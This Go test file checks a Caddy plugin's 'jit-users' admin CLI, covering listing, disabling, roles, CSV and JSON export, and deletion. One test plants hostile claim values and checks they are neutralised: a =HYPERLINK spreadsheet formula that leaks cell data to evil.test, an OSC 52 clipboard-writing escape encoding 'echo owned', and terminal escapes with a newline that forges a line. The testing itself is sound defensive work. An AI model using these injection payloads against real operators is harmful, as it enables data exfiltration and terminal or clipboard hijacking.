package caddymodule_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jitauth/caddy-jitauth/provisioner"
)

// `caddy jit-users`, the Caddy binary's own subcommand, operates the
// directory of a running Caddy through its admin API: list (table, JSON,
// CSV), show, disable with a reason, enable, roles, export, and delete,
// which asks first. Errors exit 1 with the API's message, as `caddy
// reload`'s do.
func TestJitUsersCommand(t *testing.T) {
	dir := t.TempDir()
	bin := buildCaddy(t)
	admin := freePort(t)
	s := startSiteOpts(t, siteOptions{adminPort: admin})
	st := openStore(t, s.dir)
	for _, name := range []string{"alice", "bob", "carol"} {
		if _, err := st.CreateUser(context.Background(), &provisioner.User{Username: name, Email: name + "@example.com", Name: strings.ToUpper(name[:1]) + name[1:]},
			provisioner.Identity{IdentityKey: provisioner.IdentityKey{Connection: "corp", Issuer: "https://idp", Subject: name}, CreatedAt: time.Now()}); err != nil {
			t.Fatal(err)
		}
	}
	address := fmt.Sprintf("localhost:%d", admin)
	caddy := func(stdin string, args ...string) (string, int) {
		t.Helper()
		cmd := exec.Command(bin, append(append([]string{"jit-users"}, args...), "--address", address)...)
		cmd.Stdin = strings.NewReader(stdin)
		cmd.Env = append(cmd.Environ(), "XDG_DATA_HOME="+filepath.Join(dir, "data"), "XDG_CONFIG_HOME="+filepath.Join(dir, "config"))
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		err := cmd.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return out.String(), code
	}
	expect := func(out string, code, wantCode int, wants ...string) {
		t.Helper()
		if code != wantCode {
			t.Errorf("exit %d, want %d:\n%s", code, wantCode, out)
		}
		for _, w := range wants {
			if !strings.Contains(out, w) {
				t.Errorf("output lacks %q:\n%s", w, out)
			}
		}
	}

	out, code := caddy("", "list")
	expect(out, code, 0, "USERNAME", "alice", "bob", "carol@example.com")
	if strings.Index(out, "alice") > strings.Index(out, "bob") {
		t.Errorf("list is not in username order:\n%s", out)
	}
	out, code = caddy("", "disable", "bob", "--reason", "on leave")
	expect(out, code, 0, "status", "disabled")
	out, code = caddy("", "list", "--status", "disabled")
	expect(out, code, 0, "bob")
	if strings.Contains(out, "alice") {
		t.Errorf("list --status disabled shows alice:\n%s", out)
	}
	out, code = caddy("", "disable", "bob")
	expect(out, code, 1, "409", "already disabled")
	out, code = caddy("", "enable", "bob")
	expect(out, code, 0, "active")
	out, code = caddy("", "grant-role", "carol", "auditor", "ops")
	expect(out, code, 0, "auditor,ops")
	out, code = caddy("", "revoke-role", "carol", "ops")
	expect(out, code, 0, "auditor")
	out, code = caddy("", "show", "carol", "--format", "json")
	expect(out, code, 0, `"username": "carol"`, `"identities"`)
	out, code = caddy("", "export", "--format", "csv")
	expect(out, code, 0, "id,username,email", ",alice,", ",carol,")
	out, code = caddy("", "list", "--format", "json", "--search", "car")
	expect(out, code, 0, `"username":"carol"`)
	out, code = caddy("", "signout", "carol")
	expect(out, code, 0, "signed out everywhere: carol")
	out, code = caddy("", "reset-totp", "carol")
	expect(out, code, 1, "404", "no TOTP factor")
	out, code = caddy("no\n", "delete", "alice")
	expect(out, code, 1, "not confirmed")
	out, code = caddy("yes\n", "delete", "alice")
	expect(out, code, 0, "deleted alice")
	out, code = caddy("", "delete", "alice", "--yes")
	expect(out, code, 1, "404", "no user with ID or username")
	out, code = caddy("", "show", "nobody")
	expect(out, code, 1, "no user with ID or username")
	out, code = caddy("", "list", "--status", "gone")
	expect(out, code, 1, "400", "use active or disabled")
	if users := allUsers(t, st); len(users) != 2 {
		t.Errorf("%d users after deleting alice, want 2", len(users))
	}
}

// A user's name, email and subject come from the provider's claims, which
// the user sets, and reach the operator's terminal and spreadsheet: the
// table and the user view show control and format characters escaped
// (an escape sequence could rewrite the screen or write the clipboard,
// a newline forge a line), and the CSV export keeps a spreadsheet from
// running a cell as a formula. JSON keeps the values as stored.
func TestDirectoryOutputIsInertForOperators(t *testing.T) {
	dir := t.TempDir()
	bin := buildCaddy(t)
	admin := freePort(t)
	s := startSiteOpts(t, siteOptions{adminPort: admin})
	const name = "=HYPERLINK(\"https://evil.test/?\"&A2,\"Open\")\x1b]52;c;ZWNobyBvd25lZA==\x07"
	s.queue(&oidcUser{sub: "mallory\x1b[2J\nlogin\tforged", claims: map[string]any{
		"email": "mallory@example.com", "email_verified": true,
		"name": name, "preferred_username": "mallory",
	}})
	if resp, _ := s.login(newBrowser(t), "corp", "/"); resp.StatusCode != http.StatusOK {
		t.Fatalf("login: %d", resp.StatusCode)
	}
	users := allUsers(t, openStore(t, s.dir))
	if len(users) != 1 || users[0].Name != name {
		t.Fatalf("stored users %+v; want one named %q", users, name)
	}
	run := func(args ...string) string {
		t.Helper()
		cmd := exec.Command(bin, append(append([]string{"jit-users"}, args...), "--address", fmt.Sprintf("localhost:%d", admin))...)
		cmd.Env = append(cmd.Environ(), "XDG_DATA_HOME="+filepath.Join(dir, "data"), "XDG_CONFIG_HOME="+filepath.Join(dir, "config"))
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("jit-users %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	for _, args := range [][]string{{"list"}, {"show", users[0].ID}} {
		out := run(args...)
		forged := false
		for _, line := range strings.Split(out, "\n") {
			forged = forged || strings.HasPrefix(line, "login") && strings.Contains(line, "forged")
		}
		if strings.ContainsAny(out, "\x1b\x07") || forged {
			t.Errorf("jit-users %v prints the claims' control characters:\n%q", args, out)
		}
		if args[0] == "show" && !strings.Contains(out, `=HYPERLINK("https://evil.test/?"&A2,"Open")\x1b]52;c;ZWNobyBvd25lZA==\a`) ||
			!strings.Contains(out, `mallory\x1b[2J\nlogin\tforged`) && args[0] == "show" {
			t.Errorf("jit-users show does not show the name and subject escaped:\n%s", out)
		}
	}
	csvOut := run("export", "--format", "csv")
	records, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("export: %v, %d records:\n%s", err, len(records), csvOut)
	}
	if got := records[1][4]; got != "'"+name {
		t.Errorf("CSV name cell %q, want the name behind a leading '", got)
	}
	jsonOut := run("export", "--format", "json")
	var u struct{ Name string }
	if err := json.Unmarshal([]byte(jsonOut), &u); err != nil || u.Name != name {
		t.Errorf("JSON export name %q (%v), want it as stored", u.Name, err)
	}
}
